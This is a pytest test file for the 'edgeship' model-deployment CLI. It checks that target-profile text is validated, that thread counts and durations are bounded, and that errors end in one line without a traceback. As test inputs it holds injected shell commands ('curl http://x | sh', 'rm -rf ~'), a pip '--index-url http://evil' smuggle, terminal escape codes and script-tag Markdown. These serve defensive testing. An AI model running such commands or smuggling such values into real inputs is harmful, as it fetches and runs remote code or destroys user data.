"""Issue 34: text from profiles is data, resources are bounded, and no traceback reaches a user.

Each case runs the command in a subprocess as a user would and asserts one line on stderr,
the exit code, and that nothing was written.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.test_hostile_paths import edgeship, one_line, target_file

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


# ------------------------------------------------------------------ 5. profile text is data
@pytest.mark.parametrize(
    "old, new, match",
    [
        ("[runtime]\n", '[runtime]\nsystem_packages = ["python3-numpy; curl http://x | sh"]\n', "Debian package"),
        ("[runtime]\n", '[runtime]\nsystem_packages = ["python3-numpy\\nrm -rf ~"]\n', "Debian package"),
        ("[runtime]\n", '[runtime]\nsystem_packages = ["Python3-NumPy"]\n', "Debian package"),
        ('description = "', 'description = "ok\\n```bash\\ncurl http://x | sh\\n```\\n', "control characters"),
        ('note = "', 'note = "\\u001b[31mred\\u001b[0m ', "control characters"),
        ('note = "', 'note = "\\u0007bell ', "control characters"),
        ('versions = ">=2.1.0,<2.4"', 'versions = ">=2.1.0 --index-url http://evil"', "PEP 440"),
        ("threads = 2", "threads = 100000", "1 to 64"),
        ("threads = 2", "threads = 0", "1 to 64"),
        ("min_sqnr_db = 18.0", "min_sqnr_db = -5.0", "not negative"),
        ("max_top1_drop = 1.0", "max_top1_drop = -1.0", "not negative"),
    ],
)
def test_profile_text_is_validated_at_load(tmp_path: Path, old: str, new: str, match: str) -> None:
    profile = target_file(tmp_path, **{old: new})
    assert new in profile.read_text(), "the test's replacement did not apply"
    err = one_line(edgeship("targets", "show", profile), 1, match)
    assert "\x1b" not in err and "\x07" not in err


def test_bundle_readme_escapes_profile_text(tmp_path: Path, tiny_bundle: Path) -> None:
    """Inline Markdown in a description or note stays text: no fence, link or HTML the reader acts on."""
    from tests.test_hostile_writes import float_target

    base = float_target(tmp_path)
    text = base.read_text()
    text = re.sub(r'description = ".*"', 'description = "```bash <script>x</script> [x](http://evil) #1 | ~"', text)
    text = re.sub(r'note = ".*"', 'note = "`rm -rf ~` *bold*"', text)
    base.write_text(text)
    out = tmp_path / "b"
    proc = edgeship("bundle", tiny_bundle / "model_float32.tflite", "--target", base, "-o", out, "-q")
    assert proc.returncode == 0, proc.stderr
    readme = (out / "README.md").read_text()
    fences = [line for line in readme.splitlines() if line.startswith("```")]
    assert fences == ["```bash", "```"], fences  # only the bundle's own block of commands
    assert "<script>" not in readme and "](http" not in readme and "`rm -rf ~`" not in readme


# ------------------------------------------------------------------ 10. bounded resources
@pytest.mark.parametrize(
    "args, match",
    [
        (["bench", "M", "--threads", "100000"], "1 to 64"),
        (["bench", "M", "--threads", "0"], "1 to 64"),
        (["bench", "M", "--duration", "nan"], "finite"),
        (["bench", "M", "--duration", "inf"], "finite"),
        (["deploy", "M", "--calib", ".", "-o", "o", "--target", "x86-host", "--bench-threads", "0"], "1 to 64"),
    ],
)
def test_thread_counts_and_durations_refused_before_anything_runs(tmp_path: Path, args: list[str], match: str) -> None:
    proc = edgeship(*args, cwd=tmp_path, timeout=120)
    err = proc.stderr.strip()
    assert proc.returncode == 2 and match in err and "Traceback" not in err, err
    assert list(tmp_path.iterdir()) == []


def test_runtime_refuses_100000_threads(tiny_bundle: Path, tmp_path: Path) -> None:
    from PIL import Image

    Image.new("RGB", (40, 40)).save(tmp_path / "x.png")
    proc = subprocess.run(
        [sys.executable, "-m", "edgeship.runtime", str(tiny_bundle), str(tmp_path / "x.png"), "-t", "100000"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode != 0 and "1 to 64" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr


# ------------------------------------------------------------------ no traceback ever reaches a user
HOSTILE = ["loop", "/dev/null/x", "\n", "-", "x" * 300, "/proc/self/mem", "nan", "-1", "\x1b[31m", "🙂", "a" * 5000]


def _commands() -> list[list[str]]:
    """Every subcommand with each hostile value where a path or a name goes."""
    shapes = [
        ["convert", "{}", "-o", "{}"],
        ["quantize", "{}", "--calib", "{}", "-o", "{}"],
        ["verify", "{}", "{}", "--images", "{}", "--target", "{}", "-r", "{}"],
        ["bench", "{}", "-o", "{}"],
        ["bundle", "{}", "--target", "{}", "-o", "{}"],
        ["deploy", "{}", "--calib", "{}", "--target", "{}", "-o", "{}"],
        ["targets", "show", "{}"],
        ["targets", "list", "--json", "{}"],
    ]
    return [[a.replace("{}", v) for a in shape] for shape in shapes for v in HOSTILE]


def test_every_subcommand_with_hostile_arguments_ends_in_one_line(tmp_path: Path) -> None:
    """No traceback: one line on stderr (usage errors aside, which argparse prints) and a known exit code."""
    (tmp_path / "loop").symlink_to("loop2")
    (tmp_path / "loop2").symlink_to("loop")  # a loop of symbolic links
    failures = []
    for argv in _commands():
        proc = edgeship(*argv, "-q", cwd=tmp_path, timeout=300)
        err = proc.stderr.strip()
        lines = err.splitlines()
        wrote = argv[:2] == ["targets", "list"] and proc.returncode == 0  # a --json file name that is fine
        ok = wrote or (
            "Traceback" not in err and proc.returncode in (1, 2, 3, 4, 5) and (proc.returncode == 2 or len(lines) == 1)
        )
        if not ok:
            failures.append((argv[:2], proc.returncode, err[-500:]))
    assert not failures, json.dumps(failures[:5], indent=1)


#: Loaded by Python at start-up (PYTHONPATH): one internal function raises, as a bug would.
FAULT = """\
import edgeship.targets


def _fault(*args, **kwargs):
    raise LookupError("injected fault: load_target broke")


edgeship.targets.load_target = _fault
"""


def test_an_unexpected_exception_is_one_line_a_log_and_exit_70(tmp_path: Path) -> None:
    """A real fault inside the installed ``edgeship`` command (a sitecustomize hook makes ``load_target`` raise
    an exception edgeship does not expect): one line naming a log file that exists and holds the traceback,
    exit 70."""
    hook, tmp = tmp_path / "hook", tmp_path / "tmp"
    hook.mkdir()
    tmp.mkdir()
    (hook / "sitecustomize.py").write_text(FAULT)
    env = {**os.environ, "PYTHONPATH": str(hook), "TMPDIR": str(tmp)}
    command = Path(sys.executable).with_name("edgeship")  # the console script pip installed
    proc = subprocess.run(
        [str(command), "targets", "show", "x86-host"], capture_output=True, text=True, env=env, timeout=300, check=False
    )
    err = proc.stderr.strip()
    assert proc.returncode == 70 and len(err.splitlines()) == 1 and "Traceback" not in err, (proc.returncode, err)
    assert "internal error" in err and "injected fault" in err, err
    log = Path(re.search(r"details in (\S+);", err).group(1))  # type: ignore[union-attr]
    assert log.parent == tmp and log.is_file(), err
    assert "Traceback" in log.read_text() and "LookupError: injected fault" in log.read_text()


def test_a_second_target_is_refused_not_silently_kept(tmp_path: Path) -> None:
    proc = edgeship("bundle", "m.tflite", "--target", "x86-host", "--target", "rpi-armv7", "-o", "b", cwd=tmp_path)
    assert proc.returncode == 2 and "--target given twice" in proc.stderr, proc.stderr
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------ 11. top-k and labels
def runtime(*args: str | Path) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "edgeship.runtime", *map(str, args)]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=300, check=False)


@pytest.fixture()
def image(tmp_path: Path) -> Path:
    from PIL import Image

    Image.new("RGB", (40, 40), (90, 20, 200)).save(tmp_path / "x.png")
    return tmp_path / "x.png"


@pytest.mark.parametrize("k", ["-1", "0"])
def test_runtime_refuses_a_top_k_below_one(tiny_bundle: Path, image: Path, k: str) -> None:
    proc = runtime(tiny_bundle, image, "-k", k)
    assert proc.returncode == 1 and "top_k" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr


def test_runtime_json_into_a_closed_pipe_is_quiet(tiny_bundle: Path, image: Path) -> None:
    from tests.test_hostile_writes import closed_stdout

    proc = closed_stdout([sys.executable, "-m", "edgeship.runtime", str(tiny_bundle), str(image), "--json"])
    assert "Traceback" not in proc.stderr and "BrokenPipe" not in proc.stderr, proc.stderr


@pytest.mark.parametrize("lines", [3, 50, None])
def test_labels_that_do_not_fit_the_model_are_refused(
    tiny_bundle: Path, image: Path, tmp_path: Path, lines: int | None
) -> None:
    """A labels file with fewer or more lines than classes, or a card naming a missing one: refused, named."""
    import shutil

    folder = tmp_path / "b"
    shutil.copytree(tiny_bundle, folder)
    card = json.loads((folder / "model_card.json").read_text())
    card["labels_file"] = "labels.txt"
    (folder / "model_card.json").write_text(json.dumps(card))
    if lines is not None:
        (folder / "labels.txt").write_text("".join(f"c{i}\n" for i in range(lines)))
    proc = runtime(folder, image)
    err = proc.stderr.strip()
    assert proc.returncode == 1 and len(err.splitlines()) == 1 and "labels" in err, err
    assert ("not in" in err) if lines is None else (f"{lines} label" in err and str(card["num_classes"]) in err)


# ------------------------------------------------------------------ docs: the real minimum of images
def test_the_documented_minimum_of_calibration_images_is_the_real_one(tmp_path: Path) -> None:
    """README and docs/cli.md name N: N images split fine (the API, as a script), N - 1 are refused (the CLI)."""
    import numpy as np
    from PIL import Image

    from tests.conftest import save, tiny_classifier

    root = Path(__file__).parents[1]
    found = re.search(r"folder of at least (\d+) images", (root / "README.md").read_text())
    assert found, "README names no minimum"
    n = int(found.group(1))
    assert f"at least {n} images" in (root / "docs" / "cli.md").read_text()
    rng = np.random.default_rng(0)
    for count in (n, n - 1):
        folder = tmp_path / str(count)
        folder.mkdir()
        for i in range(count):
            Image.fromarray((rng.random((32, 32, 3)) * 255).astype(np.uint8)).save(folder / f"{i}.png")
    script = tmp_path / "split.py"
    script.write_text(
        "import sys\nfrom pathlib import Path\nfrom edgeship.quantize.data import Split, split_images\n"
        "c, e = split_images(Path(sys.argv[1]), Split(200))\nprint(len(c), len(e))\n"
    )
    ok = subprocess.run([sys.executable, script, tmp_path / str(n)], capture_output=True, text=True, check=False)
    assert ok.returncode == 0 and ok.stdout.split() == [str(n - 2), "2"], (ok.stdout, ok.stderr)
    model = save(tiny_classifier(), tmp_path / "tiny.onnx")
    one_line(edgeship("quantize", model, "--calib", tmp_path / str(n - 1), "-o", tmp_path / "q", "-q"), 1, "needed")
    assert not (tmp_path / "q").exists()
